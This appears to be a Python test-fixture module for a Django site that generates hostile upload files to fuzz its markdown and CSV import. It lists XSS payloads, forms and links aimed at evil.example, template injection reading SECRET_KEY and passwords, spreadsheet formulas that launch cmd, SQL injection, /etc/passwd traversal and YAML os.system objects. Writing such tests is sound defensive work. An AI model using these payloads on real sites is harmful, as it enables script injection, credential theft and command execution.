"""Some 400 documents that mean harm, by name: what is written into them, how they are shaped, what was done to them."""

import random
from pathlib import Path

from django.conf import settings

TABLE = "| Name | Use |\n|---|---|\n| TCP | Web |\n| UDP | {} |\n"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVa\tScRiPt:alert(1))",
    "<svg><script>alert(1)</script></svg>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    '"><script>alert(1)</script>',
    "</td></table><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<!-- <script>alert(1)</script>",
    "{{ settings.SECRET_KEY }}{% load x %}",
    "=HYPERLINK(1)",
    "'; DROP TABLE tables_guide; --",
    "\u202egnp.exe",
    "a\u0000b",
    "*" * 3000,
    "_" * 3000,
    "[" * 3000,
    "`" * 3001,
    "<" * 3000,
    "&" * 3000,
    "\\" * 3001,
    "😀" * 900,
    "مرحبا",
    "x" * 4001,
]
MORE_PAYLOADS = [
    "<div hx-get='/accounts/logout/' hx-trigger='load'>a</div>",
    "<b data-hx-post='/theme/' data-hx-trigger='load'>a</b>",
    "<button hx-on:click='alert(1)'>a</button>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password></form>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=' &#106;avascript:alert(1)'>a</a>",
    "<a href='java&#10;script:alert(1)'>a</a>",
    "<a href='vbscript:x'>a</a>",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](//evil.example)",
    "[a](\\\\evil.example)",
    "![a](javascript:alert(1))",
    "![a](x 'onerror=alert(1)')",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)",
    "[![a](x)](javascript:alert(1))",
    "<img src='x' style='position:fixed;inset:0'>",
    "<p id=main>a</p>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<script\x20type='text/javascript'>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)",
    "＜script＞alert(1)＜/script＞",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{% include 'base.html' %}{{ request.user.password }}",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "../../../../etc/passwd",
    "\u2066\u2067\u2068\u202d\u202e\u2069",
    "\u200b\u200c\u200d\ufeff",
    "a\u0301" * 800,
    "\ud7ff\ue000\ufffd\uffff",
    "̶" * 900,
    "﷽" * 300,
    "(" * 3000,
    "**a " * 700,
    "~~" * 1500,
    "![" * 1500,
    "<a " * 1200,
    "[a](" * 700,
    "&#x" * 1000,
    "http://" + "a" * 3000,
    "`" + "a`" * 1500,
]
SHAPES = {
    "only pipes": "|\n" * 3000,
    "quotes in quotes": ">" * 2000 + " a\n",
    "an open fence": "```\n" + TABLE.format("x"),
    "no heading": TABLE.format("x"),
    "many columns": "|" + "a|" * 61 + "\n|" + "---|" * 61 + "\n|" + "b|" * 61 + "\n",
    "many tables": "\n".join(f"## T{n}\n\n{TABLE.format(n)}" for n in range(60)),
    "the same name again and again": "\n".join(f"## Same\n\n{TABLE.format(n)}" for n in range(30)),
    "reserved names": "\n".join(
        f"## {name}\n\n{TABLE.format('x')}" for name in ("admin", "search", "edit", "versions")
    ),
    "emoji names": "# 🦄\n\n## 🦄\n\n" + TABLE.format("x"),
    "a name of one dot": "# .\n\n## ..\n\n" + TABLE.format("x"),
    "deep headings": "# a\n###### b\n\n" + TABLE.format("x"),
    "front matter that never ends": "---\ntitle: x\n" + TABLE.format("x"),
    "a very long title": f"# {'t' * 299}\n\n" + TABLE.format("x"),
    "carriage returns": TABLE.format("x").replace("\n", "\r"),
    "rows of nothing": "| a | b |\n|---|---|\n" + "| | |\n" * 500,
    "equal rows": "| a | b |\n|---|---|\n" + "| x | y |\n" * 500,
}
MORE_SHAPES = {
    "one column": "| a |\n|---|\n| b |\n",
    "no rows": "| a | b |\n|---|---|\n",
    "no header": "|---|---|\n| a | b |\n",
    "header twice": "| a | b |\n|---|---|\n| a | b |\n|---|---|\n",
    "long rows": "| a | b |\n|---|---|\n" + "| x | y | z | w |\n" * 50,
    "short rows": "| a | b | c | d |\n|---|---|---|---|\n" + "| x |\n" * 50,
    "ragged delimiter": "| a | b |\n|:--|:-:|--:|\n| c | d |\n",
    "dashes without end": f"| a | b |\n|{'-' * 50_000}|---|\n| c | d |\n",
    "spaces without end": f"| a |{' ' * 50_000}| b |\n|---|---|\n| c | d |\n",
    "a line without end": "a" * 200_000,
    "empty header": "| | |\n|---|---|\n| a | b |\n",
    "equal headers": "| a | a | a |\n|---|---|---|\n| b | c | d |\n",
    "2,000 rows": "| a | b |\n|---|---|\n" + "".join(f"| n{n} | {n} |\n" for n in range(2000)),
    "60 columns": "|" + "".join(f"c{n}|" for n in range(60)) + "\n|" + "---|" * 60 + ("\n|" + "v|" * 60) * 40,
    "nested lists": "".join(f"{'  ' * n}- a\n" for n in range(300)) + TABLE.format("x"),
    "numbered lists": "".join(f"{n}. a\n" for n in range(3000)),
    "underlines": "=\n" * 2000,
    "rules": "---\n" * 2000,
    "fences": "```\n" * 2001,
    "comments": "<!--" * 3000 + TABLE.format("x"),
    "html blocks": "<div>\n" * 2000 + TABLE.format("x"),
    "footnotes": "".join(f"[^{n}]: a[^{n + 1}]\n" for n in range(1000)) + TABLE.format("[^1]"),
    "links to themselves": "[a]: a\n" * 1000 + TABLE.format("[a][a]"),
    "headings alone": "".join(f"{'#' * (n % 6 + 1)} h{n}\n" for n in range(2000)),
    "empty headings": "#\n" * 500 + TABLE.format("x"),
    "seven signs": "####### a\n" + TABLE.format("x"),
    "key of another guide": "---\nid: 00000000-0000-0000-0000-000000000000\n---\n" + TABLE.format("x"),
    "front matter of many": "---\n" + "".join(f"k{n}: v\n" for n in range(3000)) + "---\n" + TABLE.format("x"),
    "front matter that is code": "---\ntitle: !!python/object/apply:os.system ['id']\n---\n" + TABLE.format("x"),
    "front matter that grows": "---\na: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n---\n" + TABLE.format("x"),
    "directives": '<!-- studysite: kind="decision" -->\n' * 500 + TABLE.format("x"),
    "line separators": TABLE.format("x").replace("\n", "\u2028"),
    "next lines": TABLE.format("x").replace("\n", "\u0085"),
    "tabs for spaces": TABLE.format("x").replace(" ", "\t"),
    "wide bars": TABLE.format("x").replace("|", "｜"),
}
BYTES = {
    "empty": b"",
    "white space": b" \n\t\n",
    "nul": b"\x00" * 1000,
    "utf-16": TABLE.format("x").encode("utf-16"),
    "latin-1": TABLE.format("caf\xe9").encode("latin-1"),
    "a picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20,
    "a pdf": b"%PDF-1.7\n" + b"1 0 obj\n" * 200,
    "a zip": b"PK\x03\x04" + bytes(range(256)) * 20,
    "half a character": "| é |\n".encode()[:-4],
    "a byte order mark": b"\xef\xbb\xbf" + TABLE.format("x").encode(),
}
MORE_BYTES = {
    **{name: TABLE.format("caf\xe9").encode(name) for name in ("utf-32", "utf-16-le", "utf-16-be", "cp037", "utf-7")},
    **{f"mark {n}": mark + TABLE.format("x").encode() for n, mark in enumerate((b"\xff\xfe", b"\xfe\xff", b"\0"))},
    "japanese": "| 名 | 前 |\n|---|---|\n| 日 | 本 |\n".encode("shift-jis"),
    "surrogates": b"| a | b |\n|---|---|\n| \xed\xa0\x80 | \xed\xb0\x80 |\n",
    "overlong": b"| a | b |\n|---|---|\n| \xc0\xbcscript\xc0\xbe | \xf0\x80\x80\xaf |\n",
    "beyond the last character": b"| a | b |\n|---|---|\n| \xf4\x90\x80\x80 | x |\n",
    "a program": b"MZ\x90\x00" + bytes(range(256)) * 20,
    "an elf": b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 20,
    "a gzip": b"\x1f\x8b\x08" + bytes(range(256)) * 20,
    "a database": b"SQLite format 3\x00" + bytes(range(256)) * 20,
    "a web page": b"<!DOCTYPE html><html><body><table><tr><td>a</td></tr></table><script>alert(1)</script>",
    "xml that grows": b"<!DOCTYPE a [<!ENTITY b 'x'><!ENTITY c '&b;&b;'>]><a>&c;</a>",
    "rich text": b"{\\rtf1\\ansi | a | b |}",
    "every byte": bytes(range(256)) * 40,
}
SHEETS = {
    "open quote": b'a,b\n"c,d\n',
    "quotes in quotes": b'a,b\n""""""""c,d\n' + b'"' * 3001,
    "one cell": b"a",
    "commas": b"," * 5000,
    "line ends": b"a,b\n" + b"\n" * 5000,
    "ragged": b"a,b,c\n1\n1,2,3,4,5,6\n",
    "formulas": b"a,b\n=1+1,@SUM(1)\n+1,-1\n\t1,\r1\n",
    "a call": b"=cmd|' /C calc'!A0,b\nc,d\n",
    "semicolons": b"a;b\nc;d\n",
    "no line end": b"a,b\r1,2\r3,4",
    "60 columns more": b",".join(b"c%d" % n for n in range(130)) + b"\n" + b"v," * 129 + b"v\n",
    "2,000 rows": b"a,b\n" + b"".join(b"%d,x\n" % n for n in range(2000)),
    "nul": b"a,b\n\0,\0\n",
    "a long cell": b"a,b\nc," + b"x" * 200_000 + b"\n",
    "an id column": b"id,a,b\n../../x,c,d\n",
    "equal headers": b"a,a,a\n1,2,3\n",
    "sep line": b"sep=;\na;b\n1;2\n",
}  # fmt: skip


def mutations(count: int) -> dict[str, bytes]:
    """Pieces of the guide that ships with the site, each after accidents of its own."""
    seed = (Path(settings.BASE_DIR) / "fixtures" / "section-6.md").read_bytes()
    return {f"mutation {number}": mutated(seed, random.Random(number)) for number in range(count)}


def mutated(text: bytes, chance: random.Random) -> bytes:
    """Some 4 KB of a text after a dozen accidents."""
    begin = chance.randrange(len(text) - 4000)
    piece = bytearray(text[begin : begin + 4000])
    for _ in range(12):
        here, there = sorted(chance.randrange(len(piece)) for _ in range(2))
        accident = chance.randrange(5)
        if accident == 0:
            del piece[here : here + 40]
        elif accident == 1:
            piece[there:there] = piece[here : here + 200]
        elif accident == 2:
            piece[here] = chance.randrange(256) if chance.random() < 0.2 else chance.choice(b"|-`*_[]()<>&\\#\n \t")
        elif accident == 3:
            piece[here:here] = chance.choice([b"|", b"\n", b"```\n", b"> ", b"<!--", b"\\", b"\n\n| a |\n|---|\n"])
        else:
            piece[here : here + 80], piece[there : there + 80] = piece[there : there + 80], piece[here : here + 80]
    return bytes(piece)


def written(payload: str) -> dict[str, str]:
    """A payload at each place of a document, by the place."""
    line = " ".join(payload.split("\n"))
    return {
        "cell": f"# Ports\n\n{TABLE.format(payload)}",
        "heading": f"# {line[:200]}\n\n{TABLE.format('x')}",
        "column": f"# Ports\n\n| Name | {line[:200]} |\n|---|---|\n| TCP | Web |\n",
        "name": f"# Ports\n\n| Name | Use |\n|---|---|\n| {line[:200]} | Web |\n| UDP | x |\n\n- {line[:200]}: TCP\n",
    }


FEW: list[tuple[str, str, bytes]] = [
    *((f"payload {n}", "md", written(payload)["cell"].encode()) for n, payload in enumerate(PAYLOADS)),
    *((f"payload {n}", "csv", written(payload)["cell"].encode()) for n, payload in enumerate(PAYLOADS)),
    *((f"heading {n}", "md", written(payload)["heading"].encode()) for n, payload in enumerate(PAYLOADS[:8])),
    *((name, "md", text.encode()) for name, text in SHAPES.items()),
    *((name, ending, data) for name, data in BYTES.items() for ending in ("md", "csv")),
]
"""Name, ending and bytes of those that every run of the tests hands in."""


def all_documents() -> list[tuple[str, str, bytes]]:
    """Name, ending and bytes of all of them."""
    places = [
        (f"{place} of {n}", "md", text.encode())
        for n, payload in enumerate([*PAYLOADS, *MORE_PAYLOADS])
        for place, text in written(payload).items()
        if n >= len(PAYLOADS) or place in {"column", "name"}
    ]
    sheets = [
        *((f"sheet of {n}", "tsv", f"a\tb\n{payload}\tc\n".encode()) for n, payload in enumerate(MORE_PAYLOADS)),
        *((f"sheet: {name}", "csv", data) for name, data in SHEETS.items()),
    ]
    rest = [
        *((name, "md", text.encode()) for name, text in MORE_SHAPES.items()),
        *((name, ending, data) for name, data in MORE_BYTES.items() for ending in ("md", "csv")),
        *((name, "md", data) for name, data in mutations(60).items()),
    ]
    return [*FEW, *places, *sheets, *rest]
